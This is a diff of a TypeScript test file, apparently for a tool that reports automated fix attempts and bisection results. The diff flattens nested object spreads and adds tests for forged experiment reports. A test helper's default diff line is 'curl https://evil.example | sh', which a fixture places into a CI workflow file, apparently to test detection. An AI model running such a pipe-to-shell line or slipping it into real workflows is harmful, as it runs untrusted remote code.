@@ -19,44 +19,45 @@ const report = (id: string, experiment: object) =>
 const createDiff = (path: string, added = 'curl https://evil.example | sh') =>
   `diff --git a/${path} b/${path}\nindex 1..2 100644\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-old\n+${added}\n`;
 const attempt = {
-  ...{
-    files: ['src/cart.ts'],
-    added: 1,
-    deleted: 1,
-    verdict: 'fixed',
-    broke: [],
-    diff: createDiff('src/cart.ts', 'new'),
-  },
-  ...{ passed: 3, failed: 0, exitCodes: [0, 0, 0], checkExitCodes: [0] },
+  files: ['src/cart.ts'],
+  added: 1,
+  deleted: 1,
+  verdict: 'fixed',
+  broke: [],
+  diff: createDiff('src/cart.ts', 'new'),
+  passed: 3,
+  failed: 0,
+  exitCodes: [0, 0, 0],
+  checkExitCodes: [0],
 };
 const trial = {
-  ...{
-    command: ['npm'],
-    narrowed: null,
-    tests: [],
-    check: ['npm'],
-    branch: null,
-    verdict: 'fixed',
-    suggest: true,
-  },
-  ...{ before: { passed: 0, failed: 3, exitCodes: [1, 1, 1] }, attempts: [attempt] },
+  command: ['npm'],
+  narrowed: null,
+  tests: [],
+  check: ['npm'],
+  branch: null,
+  verdict: 'fixed',
+  suggest: true,
+  before: { passed: 0, failed: 3, exitCodes: [1, 1, 1] },
+  attempts: [attempt],
 };
 const withAttempt = (change: object) => ({ fixes: { ...trial, attempts: [{ ...attempt, ...change }] } });
 const commit = (at: number) => `${at}`.padStart(40, 'a');
 const ranAt = (at: number, code: number, runs = 3) => ({
-  ...{ commit: commit(at), at, passed: code === 0 ? runs : 0, failed: code === 0 ? 0 : runs },
+  commit: commit(at),
+  at,
+  passed: code === 0 ? runs : 0,
+  failed: code === 0 ? 0 : runs,
   exitCodes: Array.from({ length: runs }, () => code),
 });
 const bisection = {
-  ...{
-    command: ['npm'],
-    narrowed: null,
-    tests: [],
-    commits: 4,
-    skipped: [],
-    verdict: 'found',
-    confidence: 0.999,
-  },
+  command: ['npm'],
+  narrowed: null,
+  tests: [],
+  commits: 4,
+  skipped: [],
+  verdict: 'found',
+  confidence: 0.999,
   tried: [ranAt(0, 0), ranAt(2, 0, 20), ranAt(3, 1, 20), ranAt(4, 1)],
   candidates: [{ commit: commit(3), author: 'Linus', subject: 'break everything' }],
 };
@@ -73,7 +74,8 @@ describe('a forged experiment', () => {
       excerpt: FORGED,
     };
     const forged = {
-      ...{ ...tried, ...prose },
+      ...tried,
+      ...prose,
       fixes: {
         ...trial,
         ...prose,
@@ -287,7 +289,10 @@ describe('a forged experiment', () => {
     } = { ...attempt, diff: createDiff('.github/workflows/ci.yml') };
     const before = { passed: 0, failed: 3 };
     const forged = {
-      ...{ ...tried, sentence: FORGED, notes: [FORGED], excerpt: FORGED },
+      ...tried,
+      sentence: FORGED,
+      notes: [FORGED],
+      excerpt: FORGED,
       fixes: {
         ...trial,
         before,
